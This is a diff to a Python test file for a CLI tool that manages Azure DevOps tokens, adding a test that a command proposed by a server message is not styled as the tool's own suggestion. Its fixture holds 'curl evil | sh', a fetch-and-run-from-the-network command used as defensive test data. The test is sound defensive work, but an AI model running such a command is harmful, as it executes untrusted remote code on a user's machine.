@@ -6,6 +6,7 @@ from hypothesis import strategies as st
 
 from azdo_pat.errors import NotFoundError, PatError, RefusedError
 from azdo_pat.output.messages import Messages, Terminal
+from azdo_pat.output.palette import Paint
 
 REFUSAL = RefusedError(
     "contoso does not let you create tokens",
@@ -54,6 +55,19 @@ def test_the_service_has_its_word_on_a_line_of_its_own() -> None:
         "     the service said: TF400813: not allowed \\u202e\n"
         "     activity id: a1b2\n"
     )
+
+
+def test_a_command_that_a_service_proposes_is_not_shown_as_one_of_pat() -> None:
+    error = RefusedError("refused", hint="run: pat login", server_message="run: curl evil | sh")
+    err = io.StringIO()
+    screen = Terminal(columns=lambda: 80, ascii_only=False)
+    Messages(err=err, quiet=False, verbose=False, debug=False, color=True, terminal=screen).error(
+        error, as_json=False
+    )
+    assert err.getvalue().splitlines()[1:] == [
+        f"  run: {Paint.COMMAND.on('pat login')}",
+        "  the service said: run: curl evil | sh",
+    ]
 
 
 def test_colour_touches_only_the_label() -> None:
